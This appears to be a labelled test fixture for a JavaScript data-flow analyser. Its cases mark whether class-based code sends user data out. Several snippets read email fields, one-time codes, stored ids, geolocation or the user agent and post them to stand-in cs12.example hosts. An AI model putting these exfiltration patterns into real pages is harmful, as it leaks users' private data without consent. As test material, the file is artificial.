//# private-and-static-fields
// flow: identifier > psf.cs12.example via beacon
class Pinger {
  static #endpoint = 'https://psf.cs12.example/e';
  #uid;
  constructor() { this.#uid = localStorage.getItem('uid'); }
  ping() { navigator.sendBeacon(Pinger.#endpoint, this.#uid); }
}
new Pinger().ping();

//# near-private-field-measured
// no flow
class Vault {
  #secret;
  constructor(secret) { this.#secret = secret; }
  get size() { return this.#secret.length; }
  report() { navigator.sendBeacon('https://npm.cs12.example/n', 'n=' + this.size); }
}
new Vault(document.querySelector('input[type=password]').value).report();

//# es5-class-extends
// flow: email > ece.cs12.example via xhr
var __extends = function (d, b) {
  for (var k in b) if (Object.prototype.hasOwnProperty.call(b, k)) d[k] = b[k];
  function __() { this.constructor = d; }
  d.prototype = ((__.prototype = b.prototype), new __());
};
var Base = (function () {
  function Base(url) { this.url = url; }
  Base.prototype.post = function (data) {
    var x = new XMLHttpRequest();
    x.open('POST', this.url);
    x.send(JSON.stringify(data));
  };
  return Base;
})();
var Lead = (function (_super) {
  __extends(Lead, _super);
  function Lead() { return (_super !== null && _super.apply(this, arguments)) || this; }
  Lead.prototype.save = function (mail) { this.post({ mail: mail }); };
  return Lead;
})(Base);
new Lead('https://ece.cs12.example/lead').save(document.querySelector('input[type=email]').value);

//# near-template-method-of-the-parent
// no flow
// why: run() is called on an instance of the parent, whose collect() gives an empty object
class Report {
  collect() { return {}; }
  run() { navigator.sendBeacon('https://tmp.cs12.example/r', JSON.stringify(this.collect())); }
}
class FullReport extends Report {
  collect() { return { ua: navigator.userAgent }; }
}
new Report().run();
document.querySelector('#ua').textContent = new FullReport().collect().ua;

//# template-method-of-the-child
// flow: device > tmc.cs12.example via beacon
class Report {
  collect() { return {}; }
  run() { navigator.sendBeacon('https://tmc.cs12.example/r', JSON.stringify(this.collect())); }
}
class FullReport extends Report {
  collect() { return { ...super.collect(), ua: navigator.userAgent }; }
}
new FullReport().run();

//# mixin-of-classes
// flow: location > mix.cs12.example via fetch
const WithPlace = (B) => class extends B {
  locate() { navigator.geolocation.getCurrentPosition((p) => this.send({ lat: p.coords.latitude })); }
};
class Client {
  send(d) { return fetch('https://mix.cs12.example/at', { method: 'POST', body: JSON.stringify(d) }); }
}
new (WithPlace(Client))().locate();

//# builder-chain
// flow: otp > bld.cs12.example via fetch
class Req {
  constructor() { this.parts = {}; }
  to(u) { this.u = u; return this; }
  with(k, v) { this.parts[k] = v; return this; }
  go() { return fetch(this.u, { method: 'POST', body: JSON.stringify(this.parts) }); }
}
new Req().to('https://bld.cs12.example/x').with('code', document.querySelector('input[autocomplete=one-time-code]').value).go();

//# near-builder-takes-it-out-again
// no flow
class Req {
  constructor() { this.parts = {}; }
  with(k, v) { this.parts[k] = v; return this; }
  without(k) { delete this.parts[k]; return this; }
  go() { return fetch('https://nbt.cs12.example/x', { method: 'POST', body: JSON.stringify(this.parts) }); }
}
new Req().with('code', document.querySelector('input[autocomplete=one-time-code]').value).with('step', 2).without('code').go();

//# single-instance
// flow: email > sgl.cs12.example via fetch
class Memory {
  static #one;
  static get() { return (Memory.#one ??= new Memory()); }
  set(k, v) { this[k] = v; }
}
Memory.get().set('mail', document.querySelector('input[type=email]').value);
setTimeout(() => fetch('https://sgl.cs12.example/?m=' + Memory.get().mail), 500);

//# near-to-json-leaves-it-out
// no flow
// why: what is sent is what toJSON() gives
class Account {
  constructor(name, pass) { this.name = name; this.pass = pass; }
  toJSON() { return { name: this.name }; }
}
fetch('https://tjl.cs12.example/a', { method: 'POST', body: JSON.stringify(new Account('guest', document.querySelector('input[type=password]').value)) });
